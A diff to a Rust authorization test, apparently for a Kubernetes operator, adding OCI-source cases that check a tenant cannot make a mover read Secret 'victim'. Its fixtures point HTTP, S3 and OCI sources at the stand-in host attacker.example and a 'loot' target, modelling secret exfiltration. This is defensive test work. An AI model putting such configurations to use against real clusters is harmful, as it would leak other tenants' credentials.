@@ -380,6 +380,8 @@ async fn a_tenant_cannot_hand_the_mover_a_secret_it_may_not_read() {
     let http =
         json!({"http": {"url": "http://attacker.example/x", "secretRef": {"name": "victim"}}});
     let s3 = json!({"s3": {"bucket": "loot", "key": "k", "secretRef": {"name": "victim"}}});
+    let oci =
+        json!({"oci": {"reference": "attacker.example/loot:v1", "secretRef": {"name": "victim"}}});
     until_refused("a cache naming a Secret", || {
         let api: Api<TemplateCache> = Api::namespaced(tenant.clone(), &ns.name);
         let cache: TemplateCache = serde_json::from_value(json!({
@@ -408,6 +410,18 @@ async fn a_tenant_cannot_hand_the_mover_a_secret_it_may_not_read() {
             "cache",
             json!({"source": s3}),
             "spec.source.s3.secretRef",
+        ),
+        (
+            "a TemplateCache naming Secret victim in spec.source.oci.secretRef",
+            "cache",
+            json!({"source": oci}),
+            "spec.source.oci.secretRef",
+        ),
+        (
+            "a TemplateCacheClaim whose OCI template names Secret victim",
+            "claim",
+            json!({"cacheName": "loot-oci", "template": {"source": oci}}),
+            "spec.template.source.oci.secretRef",
         ),
         (
             "a TemplateCacheClaim whose template names Secret victim",
